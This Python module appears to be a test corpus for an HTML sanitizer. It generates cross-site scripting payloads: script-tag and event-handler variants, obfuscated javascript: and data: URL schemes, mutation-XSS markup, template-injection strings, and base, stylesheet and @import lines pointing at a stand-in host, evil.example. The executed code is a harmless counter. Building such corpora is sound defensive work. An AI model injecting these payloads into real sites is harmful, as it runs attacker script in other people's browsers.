"""What people try when they want a script of theirs to run on somebody else's screen."""

CALL = "window.ran=(window.ran||0)+1"
TAGS = ["img", "svg", "body", "video", "audio", "input", "details", "iframe", "object", "marquee", "select", "form"]
EVENTS = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onstart", "onbegin", "onanimationstart"]
SCHEMES = [
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    " javascript:{}",
    "\x01javascript:{}",
    "&#106;avascript:{}",
    "&#x6A;avascript:{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "javascript://%0a{}",
    "feed:javascript:{}",
]
CARRIERS = ['<a href="{}">x</a>', '<iframe src="{}"></iframe>', '<form action="{}"><button>x</button></form>']
WHOLE = [
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script/x>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<<script>{CALL}//<</script>",
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f"<!--<img src='--><img src=x onerror={CALL}>'>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href=data:,{CALL}></script></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={CALL}>",
    f"<svg></p><style><a id='</style><img src=x onerror={CALL}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:1'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    f"<template><script>{CALL}</script></template>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<object data='data:text/html,<script>{CALL}</script>'></object>",
    f"<embed src='javascript:{CALL}'>",
    f"<isindex type=image src=1 onerror={CALL}>",
    f"<p style='background:url(javascript:{CALL})'>x</p>",
    f"<p style='width:expression({CALL})'>x</p>",
    f"<a href='#' onclick='{CALL}'>x</a>",
    f"<button formaction='javascript:{CALL}'>x</button>",
    f"<x onclick={CALL} tabindex=1>x</x>",
    f"<p id=x onfocus={CALL} tabindex=0 autofocus>x</p>",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    f"<a href='https://ok.example' target=_blank onmouseover={CALL}>x</a>",
]
EVENT_TAGS = [f"<{tag} src=x {event}={CALL}>" for tag in TAGS for event in EVENTS]
LINKS = [carrier.format(scheme.format(CALL)) for carrier in CARRIERS for scheme in SCHEMES]
PAYLOADS = [*WHOLE, *EVENT_TAGS, *LINKS]
